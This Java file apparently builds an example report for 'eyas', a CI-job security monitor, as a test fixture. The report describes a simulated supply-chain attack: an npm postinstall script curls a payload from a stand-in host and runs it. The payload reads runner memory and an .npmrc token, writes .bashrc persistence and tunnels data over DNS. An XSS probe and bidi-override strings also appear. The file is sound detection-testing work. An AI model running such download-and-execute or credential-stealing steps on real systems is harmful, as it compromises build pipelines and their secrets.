package eyas.report;

import eyas.event.SourceCounters;
import eyas.report.model.AlertFacts;
import eyas.report.model.CollectedRows;
import eyas.report.model.ConnectionFacts;
import eyas.report.model.ContainerFacts;
import eyas.report.model.Coverage;
import eyas.report.model.DnsLookupFacts;
import eyas.report.model.DnsTunnelFacts;
import eyas.report.model.Enrichments;
import eyas.report.model.ExecFacts;
import eyas.report.model.ExecutableFacts;
import eyas.report.model.FileFacts;
import eyas.report.model.FilterFacts;
import eyas.report.model.JobFacts;
import eyas.report.model.JobReport;
import eyas.report.model.Overhead;
import eyas.report.model.PersistenceFacts;
import eyas.report.model.PrivilegeFacts;
import eyas.report.model.ProcessFacts;
import eyas.report.model.RuleFacts;
import eyas.report.model.RunIdentity;
import eyas.report.model.ScriptFacts;
import eyas.report.model.StepExportFacts;
import eyas.report.model.StepFacts;
import eyas.rules.model.Priority;
import java.util.List;

/** A report that uses every member of every row: an action that reads the worker's memory. */
final class ExampleReport {
    private static final long START = 1_700_000_000_000_000_000L;
    private static final String HASH = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

    private ExampleReport() {}

    static long at(double seconds) {
        return START + (long) (seconds * 1e9);
    }

    static JobReport report() {
        return JobReport.of(
                        new JobFacts(
                                "capture job.scap",
                                at(0),
                                at(9),
                                1,
                                "/home/runner/work/app/app",
                                "runner-1",
                                ".github/workflows/ci.yml",
                                new RunIdentity(
                                        "github",
                                        "https://github.com",
                                        "octo/app",
                                        "CI",
                                        "4711",
                                        2,
                                        "build",
                                        "os=linux",
                                        "runner-1"),
                                List.of("127.0.0.53")),
                        new Coverage(
                                "capture",
                                12_345,
                                2,
                                1,
                                7,
                                3,
                                List.of(new SourceCounters.Cause("ring_full", 2)),
                                List.of(new Coverage.Loss(
                                        "ring_full",
                                        "events lost because the ring was full",
                                        Coverage.Severity.LOST,
                                        2,
                                        at(3),
                                        at(4))),
                                List.of("2 events were lost")),
                        new Overhead(1_500_000_000L, 200_000, 400, -1))
                .steps(List.of(
                        new StepFacts(
                                0,
                                "github",
                                "CI",
                                "build",
                                "__actions_checkout",
                                "actions/checkout",
                                "v4",
                                at(0),
                                at(1),
                                2,
                                "high",
                                "runner",
                                "",
                                2,
                                "Run actions/checkout@v4",
                                21),
                        new StepFacts(
                                1, "github", "CI", "build", "__run_2", "", "", at(1), at(8), 4, "high", "runner", "", 0,
                                "", 27)))
                .scripts(List.of(new ScriptFacts(
                        0, "npm", "left-pad-plus", "1.3.1", "postinstall", true, "high", "manager", "npm", 40)))
                .rules(List.of(
                        new RuleFacts(
                                0,
                                "Runner Memory Read",
                                "A process of the job opened the memory of another process.",
                                Priority.CRITICAL,
                                List.of("cicd", "T1003.007"),
                                2,
                                List.of(4)),
                        new RuleFacts(
                                1,
                                "Connection of a Package Script",
                                "",
                                Priority.WARNING,
                                List.of("cicd"),
                                1,
                                List.of(3))))
                .alerts(CollectedRows.of(
                        List.of(
                                new AlertFacts(
                                        0,
                                        1,
                                        Priority.WARNING,
                                        at(3.5),
                                        950,
                                        "curl contacted 203.0.113.9:8000",
                                        3,
                                        1,
                                        0,
                                        1,
                                        at(3.5),
                                        "5eed0b5e55ed0a1e5eed0b5e55ed0a1e-1"),
                                new AlertFacts(
                                        1,
                                        0,
                                        Priority.CRITICAL,
                                        at(4.25),
                                        1201,
                                        "python3 opened /proc/77/mem <script>alert(1)</script>",
                                        4,
                                        1,
                                        0,
                                        2,
                                        at(4.5),
                                        "5eed0b5e55ed0a1e5eed0b5e55ed0a1e-2")),
                        1))
                .processes(processes())
                .executables(executables())
                .connections(connections())
                .lookups(CollectedRows.of(
                        List.of(
                                new DnsLookupFacts(
                                        0,
                                        "gist.example.test",
                                        "A",
                                        "127.0.0.53:53",
                                        "udp",
                                        3,
                                        1,
                                        0,
                                        at(3.1),
                                        1,
                                        1,
                                        "NOERROR",
                                        List.of("CNAME edge.example.test", "A 203.0.113.9")),
                                new DnsLookupFacts(
                                        1,
                                        "6d61676963.leak.example",
                                        "TXT",
                                        "198.51.100.53:53",
                                        "tcp",
                                        4,
                                        1,
                                        0,
                                        at(5),
                                        2,
                                        1,
                                        "NXDOMAIN",
                                        List.of())),
                        0))
                .stepExports(CollectedRows.of(
                        List.of(new StepExportFacts(
                                0, "variable", "NODE_OPTIONS", "set_env_0f2d3ce0-bd10-4c0a-9a1e-3b5a8d0c7e11", 2, 0)),
                        0))
                .suspicions(List.of(new DnsTunnelFacts(
                        0, "leak.example", "many distinct names", 120, "6d61676963.leak.example", at(5), 4)))
                .files(files())
                .containers(CollectedRows.of(
                        List.of(new ContainerFacts(
                                0, "0123456789ab", "docker", "db", "postgres:16", "sha256:" + HASH, true, at(0.5), 1)),
                        0))
                .privileges(CollectedRows.of(
                        List.of(new PrivilegeFacts(0, "user", "runner (1001)", "root (0)", 4, 1, at(4), 1)), 0))
                .persistence(CollectedRows.of(
                        List.of(new PersistenceFacts(0, "shell start-up file", "/home/runner/.bashrc", 1, 4, 1, at(6))),
                        0))
                .filters(List.of(new FilterFacts(
                        "written_files", "docker's own files", "fd.name startswith /var/lib/docker/", 3)))
                .enrichments(new Enrichments(
                        List.of(new Enrichments.Reputation(
                                "list ioc.csv",
                                Enrichments.Subject.ADDRESS,
                                "203.0.113.9",
                                Enrichments.Level.MALICIOUS,
                                "listed",
                                "https://example.test/ioc")),
                        new Enrichments.Summary("model-1", "The job **read** memory."),
                        List.of("the reputation service did not answer in time")))
                .end();
    }

    private static CollectedRows<ProcessFacts> processes() {
        return CollectedRows.of(
                List.of(
                        process(
                                0,
                                -1,
                                77,
                                "Runner.Worker",
                                "/opt/runner/bin/Runner.Worker spawnclient",
                                -1,
                                -1,
                                true,
                                List.of()),
                        process(1, 0, 90, "git", "git checkout main", 0, -1, false, List.of()),
                        process(2, 0, 100, "npm", "npm ci", 1, -1, true, List.of()),
                        process(
                                3,
                                2,
                                101,
                                "curl",
                                "curl -so /tmp/x http://gist.example.test:8000/x",
                                1,
                                0,
                                true,
                                List.of(1)),
                        new ProcessFacts(
                                4,
                                2,
                                102,
                                "python3",
                                "/tmp/x",
                                "/tmp/x \u202e<b>&|`\"",
                                "/",
                                0,
                                "root",
                                at(4),
                                0,
                                -1,
                                List.of(new ExecFacts(at(4), 1, "/tmp/x", 1)),
                                1,
                                1,
                                0,
                                0,
                                List.of(0),
                                true,
                                true,
                                true,
                                false)),
                0);
    }

    private static ProcessFacts process(
            int id,
            int parent,
            long pid,
            String name,
            String command,
            int step,
            int script,
            boolean offending,
            List<Integer> rules) {
        return new ProcessFacts(
                id,
                parent,
                pid,
                name,
                "/usr/bin/" + name,
                command,
                "/home/runner/work/app/app",
                1001,
                "runner",
                at(id),
                at(id + 0.9),
                id == 3 ? 6 : 0,
                List.of(new ExecFacts(at(id), 0, command)),
                1,
                step,
                script,
                -1,
                rules,
                offending,
                false,
                false,
                id == 1);
    }

    private static CollectedRows<ExecutableFacts> executables() {
        return CollectedRows.of(
                List.of(
                        new ExecutableFacts(
                                0,
                                "/usr/bin/curl",
                                HASH,
                                ExecutableFacts.Hash.AT_EXEC,
                                "",
                                4711,
                                3,
                                at(0),
                                0,
                                -1,
                                -1,
                                false,
                                ExecutableFacts.Origin.FOUND,
                                List.of()),
                        new ExecutableFacts(
                                1,
                                "/tmp/x",
                                null,
                                ExecutableFacts.Hash.NONE,
                                "it was gone",
                                4712,
                                1,
                                at(4),
                                4,
                                0,
                                3,
                                false,
                                ExecutableFacts.Origin.DOWNLOADED,
                                List.of(new ExecutableFacts.Provenance(
                                        "/tmp/x", 3, "curl", "10.0.0.5:40000->203.0.113.9:443")))),
                0);
    }

    private static CollectedRows<ConnectionFacts> connections() {
        return CollectedRows.of(
                List.of(
                        new ConnectionFacts(
                                0,
                                false,
                                "203.0.113.9",
                                8000,
                                "tcp",
                                ConnectionFacts.Scope.PUBLIC,
                                "gist.example.test",
                                at(3.1),
                                "127.0.0.53:53",
                                ConnectionFacts.Resolution.RESOLVED,
                                3,
                                1,
                                0,
                                at(3.2),
                                at(3.4),
                                1,
                                0,
                                120,
                                4096),
                        new ConnectionFacts(
                                1,
                                false,
                                "2001:db8::7",
                                443,
                                "tcp",
                                ConnectionFacts.Scope.PUBLIC,
                                null,
                                0,
                                null,
                                ConnectionFacts.Resolution.NEVER,
                                4,
                                1,
                                0,
                                at(5),
                                at(6),
                                2,
                                1,
                                0,
                                0),
                        new ConnectionFacts(
                                2,
                                true,
                                "127.0.0.1",
                                8080,
                                "tcp",
                                ConnectionFacts.Scope.LOOPBACK,
                                null,
                                0,
                                null,
                                ConnectionFacts.Resolution.UNKNOWN,
                                2,
                                1,
                                -1,
                                at(2),
                                at(2),
                                1,
                                0,
                                10,
                                20)),
                4);
    }

    private static CollectedRows<FileFacts> files() {
        return CollectedRows.of(
                List.of(
                        new FileFacts(
                                0,
                                "/tmp/x",
                                FileFacts.Place.TEMPORARY,
                                List.of(
                                        new FileFacts.Touch(FileFacts.Action.CREATED, 3, at(3.3), 1, ""),
                                        new FileFacts.Touch(FileFacts.Action.MADE_EXECUTABLE, 3, at(3.6), 1, "")),
                                2,
                                "",
                                "",
                                false,
                                1),
                        new FileFacts(
                                1,
                                "/home/runner/.bashrc",
                                FileFacts.Place.HOME,
                                List.of(new FileFacts.Touch(FileFacts.Action.WRITTEN, 4, at(6), 2, "")),
                                2,
                                "",
                                "shell start-up file",
                                false,
                                -1),
                        new FileFacts(
                                2,
                                "/home/runner/.npmrc",
                                FileFacts.Place.HOME,
                                List.of(new FileFacts.Touch(FileFacts.Action.READ, 4, at(4.5), 1, "")),
                                1,
                                "registry token",
                                "",
                                false,
                                -1),
                        new FileFacts(
                                3,
                                "/home/runner/work/app/app/main.js",
                                FileFacts.Place.WORKSPACE,
                                List.of(new FileFacts.Touch(FileFacts.Action.RENAMED_TO_THIS, 4, at(7), 1, "/tmp/y")),
                                1,
                                "",
                                "",
                                true,
                                -1)),
                0);
    }
}
